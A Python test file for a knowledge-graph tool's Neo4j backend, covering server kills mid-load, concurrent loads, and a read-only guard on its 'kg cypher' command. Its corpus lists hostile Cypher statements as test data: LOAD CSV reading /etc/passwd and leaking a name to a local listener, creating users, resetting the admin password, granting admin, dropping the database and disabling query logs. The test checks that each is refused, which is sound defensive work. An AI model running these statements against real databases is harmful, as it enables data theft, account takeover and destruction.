"""Neo4j under fault and contention, on real servers: the server killed at each phase of a load,
two loads at once, reads during loads, and kg cypher's corpus of writes and side effects checked
against a checksum of the whole database."""

from __future__ import annotations

import http.server
import hashlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading

import pytest

from kg.errors import BackendUnavailable
from kg.backends.neo4j import LoadFailed, LoadInterrupted, LoadLocked, Settings, load
from tests.conftest import MINI, ROOT, seeds_elements
from tests.test_neo4j import _env, _session, leftovers, snapshot

pytestmark = pytest.mark.neo4j


def two_graphs(folder):
    """The two graphs the tests switch between: the mini world, and the mini world with one person
    fewer, written into ``folder`` (small, so that a busy machine still runs these tests soon)."""
    import shutil

    import yaml

    shutil.copytree(MINI, folder, dirs_exist_ok=True)
    people = yaml.safe_load((folder / "people.yaml").read_text(encoding="utf-8"))
    people["people"] = [p for p in people["people"] if p["id"] != "dana-ruiz"]
    (folder / "people.yaml").write_text(yaml.safe_dump(people, allow_unicode=True), encoding="utf-8")
    deals = (folder / "deals.yaml").read_text(encoding="utf-8").replace("people: [chen-bo, dana-ruiz]", "people: [chen-bo]")
    (folder / "deals.yaml").write_text(deals, encoding="utf-8")
    offers = yaml.safe_load((folder / "offers.yaml").read_text(encoding="utf-8"))
    offers["offers"] = [o for o in offers["offers"] if "dana-ruiz" not in o.get("to", [])]
    (folder / "offers.yaml").write_text(yaml.safe_dump(offers, allow_unicode=True), encoding="utf-8")
    return {"mini": seeds_elements(MINI)(), "smaller": seeds_elements(folder)()}


@pytest.fixture(scope="module")
def graphs(tmp_path_factory):
    return two_graphs(tmp_path_factory.mktemp("mini-smaller"))


@pytest.fixture(scope="module")
def complete(graphs, neo4j_settings):
    """The snapshot of each graph loaded alone: what a finished load leaves."""
    shots = {}
    for name, elements in graphs.items():
        load(elements, neo4j_settings)
        shots[name] = snapshot(neo4j_settings)
    return shots


# -- the server killed at each phase --------------------------------------------------------------------


class KillableServer:
    """A test server of its own, killed with SIGKILL on demand and started again on the same store."""

    def __init__(self, home):
        from tests.neo4j_server import launcher

        self.launcher = launcher
        self.home = home
        self.server = launcher.start(home, heap="512m")
        self.port = self.server.port

    @property
    def settings(self) -> Settings:
        return Settings(uri=self.server.uri, user=self.server.user, password=self.server.password)

    def kill(self) -> None:
        self.server.process.send_signal(signal.SIGKILL)
        self.server.process.wait(30)
        self.server.stop()

    def restart(self) -> None:
        self.server.stop()
        self.server = self.launcher.start(self.home, port=self.port, password=self.server.password, heap="512m")


@pytest.fixture(scope="module")
def killable(tmp_path_factory):
    from tests.neo4j_server import launcher

    ok, why = launcher.available()
    if not ok:
        pytest.skip(f"no Neo4j server to kill: {why}")
    server = KillableServer(tmp_path_factory.mktemp("neo4j-killable"))
    yield server
    server.server.stop()


#: phase -> (the error the load raises, its message's start, which graph is live afterwards)
PHASES = {
    "locked": (BackendUnavailable, "cannot reach Neo4j at ", "mini"),
    # the fourth batch or, when a second writer committed it before the kill, a later one
    "batch 3": (LoadFailed, "loading stopped at batch ", "mini"),
    "switching": (LoadInterrupted, "Neo4j at {uri} went away while the new graph was being switched in (", "mini"),
    "switched": (LoadInterrupted, "the new graph is live in {uri} (", "smaller"),
    "cleaned": (None, "", "smaller"),
}


#: The phases the suite kills the server at (each costs a restart; tests/benchmarks/bench_load_faults.py
#: kills it at every phase, many times): mid-staging, inside the switch's commit, right after it.
SUITE_PHASES = ["batch 3", "switching", "switched"]


@pytest.mark.parametrize("moment", SUITE_PHASES)
def test_a_server_killed_at_each_phase_leaves_one_whole_graph_and_kg_says_which(killable, graphs, complete, moment):
    kill_during_load(killable, graphs, complete, moment)


def kill_during_load(killable, graphs, complete, moment: str) -> None:
    """Load the smaller graph over the mini one, killing the server at ``moment``; check what kg said and what is live."""
    load(graphs["mini"], killable.settings)
    assert snapshot(killable.settings) == complete["mini"]
    error, message, live = PHASES[moment]

    def on_phase(name: str) -> None:
        if name == moment:
            killable.kill()

    def on_batch(done: int, total: int, rows: int) -> None:
        if moment == f"batch {done}":
            killable.kill()

    uri = killable.settings.uri
    if error is None:
        load(graphs["smaller"], killable.settings, phase=on_phase)  # done before the kill: nothing to report
    else:
        with pytest.raises(error) as caught:
            load(graphs["smaller"], killable.settings, batch_size=5, progress=on_batch, phase=on_phase)
        assert str(caught.value).startswith(message.format(uri=uri))
        if moment.startswith("batch "):
            stopped_at = int(re.match(r"loading stopped at batch (\d+) of ", str(caught.value)).group(1))
            assert stopped_at > int(moment.split()[1])
        assert "\n" not in str(caught.value)
        assert caught.value.exit_code == {LoadFailed: 1, BackendUnavailable: 3, LoadInterrupted: 3}[error]
    killable.restart()
    assert snapshot(killable.settings) == complete[live]
    # the next load takes over the lock the killed one left and tidies up whatever it left
    load(graphs["mini"], killable.settings)
    assert snapshot(killable.settings) == complete["mini"]
    assert leftovers(killable.settings) == 0
    with _session(killable.settings) as session:
        assert session.run("MATCH (l:KgLoadLock) RETURN count(l) AS n").single()["n"] == 0
        assert session.run("MATCH (n) WHERE NOT n:KgNode AND NOT n:KgLive RETURN count(n) AS n").single()["n"] == 0


# -- contention -------------------------------------------------------------------------------------------


def test_two_loads_at_once_leave_one_of_the_two_whole_graphs(neo4j_graphs, graphs, complete):
    neo4j_graphs.forget()
    settings = neo4j_graphs.settings
    refused = 0
    for trial in range(4):
        order = ["mini", "smaller"] if trial % 2 else ["smaller", "mini"]
        start = threading.Barrier(2)
        outcomes: dict[str, object] = {}

        def run(name: str) -> None:
            start.wait()
            try:
                load(graphs[name], settings, batch_size=2)
                outcomes[name] = "loaded"
            except LoadLocked as err:
                outcomes[name] = err
            except Exception as err:  # anything else is a failure of the test
                outcomes[name] = err

        threads = [threading.Thread(target=run, args=(name,)) for name in order]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(300)
        assert all(o == "loaded" or isinstance(o, LoadLocked) for o in outcomes.values()), outcomes
        locked = [o for o in outcomes.values() if isinstance(o, LoadLocked)]
        refused += len(locked)
        for err in locked:
            assert str(err).startswith("another load is running since ")
            assert str(err).endswith(f"(process {os.getpid()} on {socket.gethostname()}); try again when it has finished")
        assert snapshot(settings) in (complete["mini"], complete["smaller"])
        assert leftovers(settings) == 0
    assert refused >= 1  # the loads did overlap, and the lock said so


def test_two_kg_load_commands_at_once_exit_0_and_4(neo4j_graphs):
    neo4j_graphs.forget()
    env = {**os.environ, "KG_BACKEND": "embedded", "KG_NO_CACHE": "1", **_env(neo4j_graphs.settings)}
    command = [sys.executable, "-m", "kg", "load", "--batch-size", "2", "--seeds", str(MINI)]
    processes = [subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    results = [(p.wait(300), *p.communicate()) for p in processes]
    codes = sorted(code for code, _, _ in results)
    assert codes in ([0, 4], [0, 0])  # the second either met the lock or started after the first had finished
    for code, stdout, stderr in results:
        if code == 4:
            assert stdout == ""
            assert stderr.startswith("error: another load is running since ")
            assert stderr.endswith("; try again when it has finished\n") and stderr.count("\n") == 1


MIX_CHECK = (
    "MATCH (live:KgLive) WITH live.gen AS gen "
    "MATCH (p:Person {gen: gen}) WITH gen, count(p) AS people "
    "MATCH (o:Organization {gen: gen}) WITH gen, people, count(o) AS orgs "
    "OPTIONAL MATCH (:Person {gen: gen})-[w:WORKED_AT]->() RETURN people, orgs, count(w) AS worked"
)


def test_reads_during_loads_see_one_whole_graph_or_the_other(neo4j_graphs, graphs, complete):
    from kg.backends.neo4j import Neo4jBackend
    from kg.questions import run

    neo4j_graphs.forget()
    settings = neo4j_graphs.settings
    expected = {
        (c["labels"]["Person"], c["labels"]["Organization"], c["types"]["WORKED_AT"]): name for name, c in complete.items()
    }
    questions = {}
    for name in graphs:  # a catalogue question whose answer differs between the two graphs
        load(graphs[name], settings)
        backend = Neo4jBackend(settings)
        questions[name] = run(backend, "top_flows", {}).rows
        backend.close()
    assert questions["mini"] != questions["smaller"]
    stop = threading.Event()
    seen: list[str] = []
    mixed: list[object] = []

    def read() -> None:
        backend = Neo4jBackend(settings)
        try:
            while not stop.is_set():
                _, rows = backend.read(MIX_CHECK)
                counts = (rows[0]["people"], rows[0]["orgs"], rows[0]["worked"])
                seen.append(expected.get(counts, "mix"))
                if counts not in expected:
                    mixed.append(counts)
                rows = run(backend, "top_flows", {}).rows
                if rows not in questions.values():
                    mixed.append("top_flows answered from neither graph")
        finally:
            backend.close()

    readers = [threading.Thread(target=read) for _ in range(2)]
    for reader in readers:
        reader.start()
    try:
        for name in ["smaller", "mini"] * 4:
            load(graphs[name], settings, batch_size=10)
    finally:
        stop.set()
        for reader in readers:
            reader.join(120)
    assert mixed == []
    assert len(seen) > 20 and set(seen) == {"mini", "smaller"}  # the reads did span the switches


# -- kg cypher: writes and side effects, against the real server ----------------------------------------------


def database_checksum(settings: Settings) -> str:
    """Every node and relationship in the database (kg's bookkeeping too), its schema, and the server's users and databases."""
    import neo4j

    driver = neo4j.GraphDatabase.driver(settings.uri, auth=(settings.user, settings.password))
    try:
        with driver.session(database="neo4j") as session:
            items = session.run("MATCH (n) RETURN labels(n) AS labels, properties(n) AS props").data()
            items += session.run("MATCH (a)-[r]->(b) RETURN type(r) AS type, a.id AS a, b.id AS b, properties(r) AS props").data()
            items += session.run("SHOW CONSTRAINTS YIELD name, labelsOrTypes, properties RETURN *").data()
            items += session.run("SHOW INDEXES YIELD name, labelsOrTypes, properties RETURN *").data()
        with driver.session(database="system") as system:
            items += system.run("SHOW USERS YIELD user, roles, passwordChangeRequired, suspended RETURN *").data()
            items += system.run("SHOW DATABASES YIELD name, currentStatus RETURN *").data()
    finally:
        driver.close()
    digest = hashlib.sha256()
    for line in sorted(json.dumps(item, sort_keys=True, default=str) for item in items):
        digest.update(line.encode())
    return digest.hexdigest()


class _CountingHandler(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - the http.server name
        self.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"id\nstolen\n")

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def listener():
    """A local web server that counts requests: a statement that fetches a URL would show here."""
    server = http.server.HTTPServer(("127.0.0.1", 0), _CountingHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def corpus(url: str, secret: str) -> list[str]:
    """Statements that write, reach outside the graph, or administer the server."""
    return [
        "CREATE (n:Intruder {id: 'x'}) RETURN n",
        "MERGE (n:Person {id: 'intruder'}) RETURN n",
        "MATCH (n:Person) WITH n LIMIT 1 DETACH DELETE n",
        "MATCH (n:Person) WITH n LIMIT 1 SET n.name = 'changed' RETURN n",
        "MATCH (n:Person) WITH n LIMIT 1 REMOVE n.name RETURN n",
        "MATCH (n:Person) WITH n LIMIT 1 SET n:Intruder RETURN n",
        "MATCH (a:Person), (b:Organization) WITH a, b LIMIT 1 CREATE (a)-[:OWNS]->(b)",
        "MATCH ()-[r:WORKED_AT]->() WITH r LIMIT 1 DELETE r",
        "MATCH (live:KgLive) SET live.gen = 'nothing'",
        "MATCH (l:KgLoadLock) DELETE l",
        "CREATE (:KgLoadLock {name: 'load', holder: 'intruder'})",
        "FOREACH (x IN range(1, 3) | CREATE (:Intruder {n: x}))",
        "UNWIND range(1, 3) AS x CREATE (:Intruder {n: x})",
        "CALL { CREATE (:Intruder) } RETURN 1",
        "MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS",
        "MATCH (n) CALL (n) { SET n.x = 1 } IN CONCURRENT TRANSACTIONS",
        f"LOAD CSV FROM 'file://{secret}' AS row RETURN row",
        "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
        f"LOAD CSV WITH HEADERS FROM '{url}/rows.csv' AS row RETURN row",
        f"LOAD CSV FROM '{url}/rows.csv' AS row CREATE (:Intruder {{row: row}})",
        f"MATCH (n:Person) WITH n LIMIT 1 LOAD CSV FROM '{url}/leak?name=' + n.name AS row RETURN row",
        "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
        "SHOW TRANSACTIONS",
        "SHOW TRANSACTIONS YIELD currentQuery, username RETURN currentQuery, username",
        "SHOW USERS",
        "SHOW DATABASES",
        "SHOW SETTINGS",
        "SHOW SERVERS",
        "SHOW ROLES",
        "SHOW PRIVILEGES",
        "USE system SHOW USERS",
        "USE system CREATE USER intruder SET PASSWORD 'x'",
        "CREATE USER intruder SET PASSWORD 'intruder'",
        "ALTER USER neo4j SET PASSWORD 'owned'",
        "GRANT ROLE admin TO neo4j",
        "CREATE DATABASE intruder",
        "DROP DATABASE neo4j",
        "STOP DATABASE neo4j",
        "CREATE INDEX intruder FOR (n:Person) ON (n.born)",
        "CREATE CONSTRAINT intruder FOR (n:Person) REQUIRE n.name IS UNIQUE",
        "DROP CONSTRAINT kg_node_id",
        "DROP INDEX person_name",
        "CALL db.createLabel('Intruder')",
        "CALL db.createProperty('intruder')",
        "CALL db.createRelationshipType('INTRUDES')",
        "CALL db.clearQueryCaches()",
        "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
        "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')",
        "CALL dbms.listConfig()",
        "CALL dbms.killQuery('query-1')",
        "CALL dbms.security.createUser('intruder', 'x', false)",
        "CALL tx.setMetaData({who: 'intruder'})",
        f"CALL apoc.load.json('{url}/x.json')",
        "RETURN apoc.util.sleep(1000)",
        "CALL db.checkpoint()",
        "MATCH (n) RETURN n; CREATE (:Intruder)",
    ]


def test_every_write_or_side_effect_is_refused_or_harmless(kg, neo4j_graphs, listener, tmp_path):
    neo4j_graphs.backend("mini", seeds_elements(MINI))
    settings = neo4j_graphs.settings
    secret = tmp_path / "secret.csv"
    secret.write_text("secret\nvalue\n", encoding="utf-8")
    before = database_checksum(settings)
    live = snapshot(settings)
    statements = corpus(listener, str(secret))
    assert len(statements) >= 50
    outcomes = {}
    for statement in statements:
        result = kg("cypher", statement, "--format", "json", env=_env(settings))
        lines = result.stderr.splitlines()
        # refused: exit 1 and one sentence; harmless: nothing of the database or outside it in the answer
        assert (result.exit_code, len(lines)) == (1, 1) and lines[0].startswith("error: ") and result.stdout == "", statement
        outcomes[statement] = lines[0]
    assert database_checksum(settings) == before
    assert snapshot(settings) == live
    assert _CountingHandler.hits == []  # no statement made a request
    assert not any("secret" in line or "root:" in line for line in outcomes.values())
    # the sentences: kg's own where it refuses before sending, the server's one-line refusal of a write otherwise
    writes = {s for s, line in outcomes.items() if line == "error: this statement writes, and kg only reads from Neo4j here (use kg load to write)"}
    assert {"CREATE (n:Intruder {id: 'x'}) RETURN n", "MATCH (live:KgLive) SET live.gen = 'nothing'", "MATCH (l:KgLoadLock) DELETE l"} <= writes


def test_kg_cypher_cannot_end_another_sessions_transaction(kg, neo4j_graphs):
    neo4j_graphs.backend("mini", seeds_elements(MINI))
    settings = neo4j_graphs.settings
    import neo4j

    driver = neo4j.GraphDatabase.driver(settings.uri, auth=(settings.user, settings.password))
    try:
        with driver.session(database="neo4j") as other:
            tx = other.begin_transaction()
            tx.run("MATCH (n:KgNode) RETURN count(n) AS n").consume()
            with driver.session(database="neo4j") as admin:
                ids = [row["transactionId"] for row in admin.run("SHOW TRANSACTIONS YIELD transactionId, currentQuery WHERE NOT currentQuery STARTS WITH 'SHOW'").data()]
            assert ids
            for transaction_id in ids:
                result = kg("cypher", f"TERMINATE TRANSACTIONS '{transaction_id}'", env=_env(settings))
                assert (result.exit_code, result.stderr) == (1, "error: TERMINATE ends other sessions' transactions; kg cypher does not administer the server\n")
            assert tx.run("RETURN 1 AS one").single()["one"] == 1  # still alive
            tx.commit()
    finally:
        driver.close()
